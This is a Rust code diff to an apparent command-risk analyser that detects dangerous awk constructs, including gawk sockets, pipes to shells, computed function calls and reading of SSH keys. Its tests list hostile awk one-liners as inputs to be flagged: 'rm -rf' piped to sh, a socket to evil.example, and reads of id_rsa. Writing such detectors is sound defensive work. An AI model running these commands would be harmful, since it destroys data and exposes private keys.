@@ -1,9 +1,10 @@
 //! awk programs: `system`, pipes and files written.
 
 use crate::command::chars::{HOLE, has_hole};
-use crate::command::effect::{Certainty, EffectKind, Risk};
-use crate::command::engine::Engine;
+use crate::command::effect::{Certainty, EffectKind, How, Risk, Span};
+use crate::command::engine::{Engine, Stream};
 use crate::command::expand::Arg;
+use crate::command::parse::Base;
 
 #[derive(Debug, Clone, PartialEq, Eq)]
 enum Tok {
@@ -84,6 +85,11 @@ fn lex(text: &str) -> Vec<Tok> {
                 out.push(Tok::Other);
                 i += 2;
             }
+            // Pipes of gawk that go both ways: what is at their end is named in the same place.
+            '|' if at(i + 1) == '&' => {
+                out.push(Tok::Op('|'));
+                i += 2;
+            }
             '>' | '<' | '=' | '!' if at(i + 1) == '=' => {
                 out.push(Tok::Other);
                 i += 2;
@@ -127,11 +133,8 @@ impl Engine<'_> {
                     _ => {}
                 },
                 Tok::Word(w) if w == "getline" => {
-                    if matches!(i.checked_sub(1).and_then(|k| toks.get(k)), Some(Tok::Op('|' | '&'))) {
-                        match i.checked_sub(2).and_then(|k| toks.get(k)) {
-                            Some(Tok::Str(s)) if !has_hole(s) => self.run_inner_shell(s, span),
-                            _ => self.dynamic(span, "awk reads from a command that it computes"),
-                        }
+                    if matches!(i.checked_sub(1).and_then(|k| toks.get(k)), Some(Tok::Op('|'))) {
+                        self.awk_pipe(text_before(&toks, i - 1), false, span);
                     } else if matches!(toks.get(i + 1), Some(Tok::Op('<'))) || matches!(toks.get(i + 2), Some(Tok::Op('<'))) {
                         let file =
                             toks.iter().skip(i).take(4).find_map(|t| if let Tok::Str(s) = t { Some(s.clone()) } else { None });
@@ -139,25 +142,14 @@ impl Engine<'_> {
                         self.path_read(&a);
                     }
                 }
-                Tok::Op('|') if printing || !matches!(toks.get(i + 1), Some(Tok::Word(w)) if w == "getline") => {
-                    if matches!(toks.get(i + 1), Some(Tok::Word(w)) if w == "getline")
-                        || matches!(toks.get(i + 1), Some(Tok::Op('&')))
-                    {
-                        continue;
-                    }
-                    match toks.get(i + 1) {
-                        Some(Tok::Str(s)) if !has_hole(s) => {
-                            let code = matches!(
-                                s.split_ascii_whitespace().next().map(|w| w.rsplit('/').next().unwrap_or(w)),
-                                Some("sh" | "bash" | "dash" | "zsh" | "ksh" | "python" | "python3" | "perl")
-                            );
-                            if code {
-                                self.dynamic(span, "awk prints into a shell");
-                            } else {
-                                self.run_inner_shell(s, span);
-                            }
-                        }
-                        _ => self.dynamic(span, "awk prints into a command that it computes"),
+                Tok::Op('|') if !matches!(toks.get(i + 1), Some(Tok::Word(w)) if w == "getline") => {
+                    self.awk_pipe(text_after(&toks, i + 1), true, span);
+                }
+                // What is put among the arguments is opened like a file that was named there.
+                Tok::Word(w) if w == "ARGV" => {
+                    let value = toks.iter().skip(i).take(24).position(|t| *t == Tok::Op('=')).map(|n| i + n + 1);
+                    if let Some(file) = value.and_then(|k| text_after(&toks, k)) {
+                        self.path_read(&Arg::literal(file, span));
                     }
                 }
                 Tok::Op('>') | Tok::Append if printing && depth == 0 => {
@@ -181,9 +173,108 @@ impl Engine<'_> {
                     }
                 }
                 Tok::Word(w) if w == "@load" || w == "@include" => self.dynamic(span, "awk loads other code"),
-                Tok::Op('@') => {}
+                Tok::Word(w) if w.starts_with('@') && w != "@namespace" => {
+                    self.dynamic(span, "awk calls a function by a computed name");
+                }
                 _ => {}
             }
+        }
+        // Names of files are put together, handed on in variables: a secret that is named at all is meant.
+        if toks.iter().any(|t| matches!(t, Tok::Word(w) if w == "getline" || w == "ARGV")) {
+            for t in &toks {
+                if let Tok::Str(s) = t
+                    && s.contains(['/', '.'])
+                    && self.classify(s).secret
+                {
+                    self.path_read(&Arg::literal(s.clone(), span));
+                }
+            }
+        }
+    }
+
+    /// A command at the end of a pipe; `to`: it gets what awk prints.
+    fn awk_pipe(&mut self, command: Option<String>, to: bool, span: Span) {
+        let Some(command) = command.filter(|c| !has_hole(c)) else {
+            self.dynamic(span, "awk has a pipe to a command that it computes");
+            return;
+        };
+        if command.starts_with("/inet") {
+            let why = "a socket of awk carries anything, unseen";
+            self.emit_raw(EffectKind::Network, Some(command), Certainty::Certain, span, Risk::High, why);
+            return;
+        }
+        // Whatever takes code from its input runs what awk prints, under whichever name it goes.
+        let stdin = if to { Stream::unknown() } else { Stream::default() };
+        self.run_text(&command, Base::Fixed(span), How::Code, &stdin, false);
+    }
+}
+
+/// The text that begins at `i`, if it is nothing but strings up to the end of the statement.
+fn text_after(toks: &[Tok], i: usize) -> Option<String> {
+    let strings = toks.get(i..)?.iter().map_while(|t| if let Tok::Str(s) = t { Some(s.as_str()) } else { None });
+    let parts: Vec<&str> = strings.collect();
+    let ends = matches!(toks.get(i + parts.len()), None | Some(Tok::End | Tok::Op(')')));
+    (ends && !parts.is_empty()).then(|| parts.concat())
+}
+
+/// The text in front of the token at `i`, if it is nothing but strings.
+fn text_before(toks: &[Tok], i: usize) -> Option<String> {
+    let strings = toks.get(..i)?.iter().rev().map_while(|t| if let Tok::Str(s) = t { Some(s.as_str()) } else { None });
+    let mut parts: Vec<&str> = strings.collect();
+    parts.reverse();
+    let before = i.checked_sub(parts.len() + 1).and_then(|k| toks.get(k));
+    let begins = match before {
+        None | Some(Tok::End | Tok::Op('(' | '!' | '&' | '?' | ':' | ',') | Tok::Other) => true,
+        Some(Tok::Word(w)) => matches!(w.as_str(), "else" | "do" | "return" | "print"),
+        // `while (…) "cmd" | getline`
+        Some(Tok::Op(')')) => true,
+        _ => false,
+    };
+    (begins && !parts.is_empty()).then(|| parts.concat())
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::command::{Context, Risk, Table, analyse};
+
+    fn risk(cmd: &str) -> Risk {
+        let table = Table::builtin();
+        analyse(cmd, &Context::new(&table)).risk
+    }
+
+    #[test]
+    fn pipes_run_what_stands_at_their_end() {
+        for cmd in [
+            r#"awk '{print "rm -rf src" |& "sh"}' a"#,
+            r#"awk 'BEGIN{print "rm -rf src"|&"sh"}'"#,
+            r#"awk 'BEGIN{print "x" |& "/inet/tcp/0/evil.example/80"}'"#,
+            r#"awk '{print | "node"}' a"#,
+            r#"awk '{print | "ruby"}' a"#,
+            r#"awk '{print | "python3.11"}' a"#,
+            r#"awk '{print | "awk -f -"}' a"#,
+            r#"awk '{print | "env sh"}' a"#,
+            r#"awk '{print | "exec sh"}' a"#,
+            r#"awk '{print | "(sh)"}' a"#,
+            r#"awk '{print | "cat " "; rm -rf src"}' a"#,
+            r#"awk 'BEGIN{"cat " "a; rm -rf src" | getline}'"#,
+            r#"awk 'BEGIN{f="system"; @f("rm -rf src")}'"#,
+            r#"awk -vx=system 'BEGIN{@x("rm -rf src")}'"#,
+            r#"awk 'BEGIN{ARGV[1]="/home/dev/.ssh/id_rsa"; ARGC=2} {print}'"#,
+            r#"awk 'BEGIN{f="/home/dev/.ssh/" "id_rsa"; while ((getline l < f) > 0) print l}'"#,
+        ] {
+            assert_eq!(risk(cmd), Risk::High, "{cmd}");
+        }
+        for cmd in [
+            r#"awk '{print | "sort -rn"}' a"#,
+            r#"awk '{print $1 |& "sort"}' a"#,
+            r#"awk '{print | "cat 1>&2"}' a"#,
+            r#"awk '{ "date +%s" | getline now; print now }' a"#,
+            r#"awk 'BEGIN { while (("ls src" | getline f) > 0) print f }'"#,
+            r#"awk 'NR==1{ARGV[ARGC++]=ARGV[1]} {print}' a.txt"#,
+            r#"awk 'BEGIN{ARGV[1]="a.txt"; ARGC=2} {print}'"#,
+            r#"awk '$1 == "a@b.example" {print}' a.txt"#,
+        ] {
+            assert_eq!(risk(cmd), Risk::Low, "{cmd}");
         }
     }
 }
